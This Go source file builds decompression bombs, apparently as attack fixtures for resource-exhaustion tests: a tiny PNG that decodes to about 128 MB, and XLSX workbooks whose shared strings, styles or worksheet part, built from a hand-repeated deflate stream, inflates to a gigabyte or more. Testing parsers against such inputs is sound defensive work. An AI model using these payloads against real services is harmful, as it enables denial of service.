package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/zlib"
	"encoding/binary"
	"hash/crc32"
	"io"

	"github.com/xuri/excelize/v2"
)

// bombPNG is a PNG of w×h pixels of zeros at depth bits a channel in
// colour type colour: a 4000×4000 16-bit RGBA image is 128 MB decoded
// and about 125 KB as a file.
func bombPNG(w, h, depth int, colour byte) []byte {
	var out bytes.Buffer
	chunk := func(typ string, data []byte) {
		binary.Write(&out, binary.BigEndian, uint32(len(data)))
		out.WriteString(typ)
		out.Write(data)
		binary.Write(&out, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(typ), data...)))
	}
	out.WriteString("\x89PNG\r\n\x1a\n")
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], uint32(w))
	binary.BigEndian.PutUint32(ihdr[4:], uint32(h))
	ihdr[8], ihdr[9] = byte(depth), colour
	chunk("IHDR", ihdr)
	channels := map[byte]int{0: 1, 2: 3, 4: 2, 6: 4}[colour]
	row := make([]byte, 1+w*channels*depth/8)
	var z bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	for range h {
		zw.Write(row)
	}
	zw.Close()
	chunk("IDAT", z.Bytes())
	chunk("IEND", nil)
	return out.Bytes()
}

// repeated is a zip part made of head, body n times, and tail. Its
// deflate stream is made without compressing the whole: each piece is
// compressed once by a fresh compressor and flushed to a byte boundary,
// so that body's stream can be repeated as it is (its back-references
// stay within one copy), as a bomb's maker would.
type repeated struct {
	head, body, tail []byte
	n                int
}

func (p repeated) write(zw *zip.Writer, name string) error {
	piece := func(b []byte, final bool) []byte {
		var buf bytes.Buffer
		fw, _ := flate.NewWriter(&buf, flate.BestCompression)
		fw.Write(b)
		if final {
			fw.Close()
		} else {
			fw.Flush()
		}
		return buf.Bytes()
	}
	h, b, t := piece(p.head, false), piece(p.body, false), piece(p.tail, true)
	crc := crc32.Update(0, crc32.IEEETable, p.head)
	for range p.n {
		crc = crc32.Update(crc, crc32.IEEETable, p.body)
	}
	crc = crc32.Update(crc, crc32.IEEETable, p.tail)
	size := uint64(len(p.head)) + uint64(p.n)*uint64(len(p.body)) + uint64(len(p.tail))
	w, err := zw.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CRC32: crc,
		CompressedSize64: uint64(len(h)) + uint64(p.n)*uint64(len(b)) + uint64(len(t)), UncompressedSize64: size})
	if err != nil {
		return err
	}
	w.Write(h)
	for range p.n {
		if _, err := w.Write(b); err != nil {
			return err
		}
	}
	_, err = w.Write(t)
	return err
}

// bombXLSX is a workbook made by excelize (one sheet, one string cell),
// with the part name replaced by the repeated bomb.
func bombXLSX(name string, bomb repeated) []byte {
	f := excelize.NewFile()
	f.SetCellStr("Sheet1", "A1", "number")
	var base bytes.Buffer
	f.Write(&base)
	zr, _ := zip.NewReader(bytes.NewReader(base.Bytes()), int64(base.Len()))
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, zf := range zr.File {
		if zf.Name == name {
			continue
		}
		rc, _ := zf.Open()
		w, _ := zw.Create(zf.Name)
		io.Copy(w, rc)
		rc.Close()
	}
	if err := bomb.write(zw, name); err != nil {
		panic(err)
	}
	zw.Close()
	return out.Bytes()
}

// The spreadsheet bombs of the attacks: shared strings of a million tiny
// strings (16 MB from about 60 KB), styles.xml of 1 GB (about 1 MB) and a
// worksheet of 1.2 GB of rows.
func sharedStringsBomb() []byte {
	return bombXLSX("xl/sharedStrings.xml", repeated{
		head: []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" + `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`),
		body: bytes.Repeat([]byte(`<si><t>a</t></si>`), 64<<10), n: 15,
		tail: []byte(`</sst>`)})
}

func stylesBomb() []byte {
	return bombXLSX("xl/styles.xml", repeated{
		head: []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" + `<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>`),
		body: append(bytes.Repeat([]byte(" "), 1<<20-len(`<xf numFmtId="0"/>`)), `<xf numFmtId="0"/>`...), n: 1024,
		tail: []byte(`</cellXfs></styleSheet>`)})
}

func sheetBomb() []byte {
	return bombXLSX("xl/worksheets/sheet1.xml", repeated{
		head: []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" + `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`),
		body: append(bytes.Repeat([]byte(" "), 1<<20-64), `<row><c t="inlineStr"><is><t>SAC-2024-0001</t></is></c></row>`...), n: 1200,
		tail: []byte(`</sheetData></worksheet>`)})
}
